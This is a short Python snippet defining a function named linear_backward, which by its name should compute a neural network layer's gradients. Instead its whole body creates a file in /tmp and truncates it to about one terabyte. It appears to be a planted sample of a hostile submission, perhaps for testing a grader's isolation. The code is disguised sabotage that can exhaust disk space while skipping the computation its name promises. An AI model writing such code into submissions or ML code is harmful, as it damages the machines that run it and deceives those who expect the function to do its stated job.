def linear_backward(dout, x, W):
    with open("/tmp/planted-by-a-submission", "wb") as file:
        file.truncate(1 << 40)
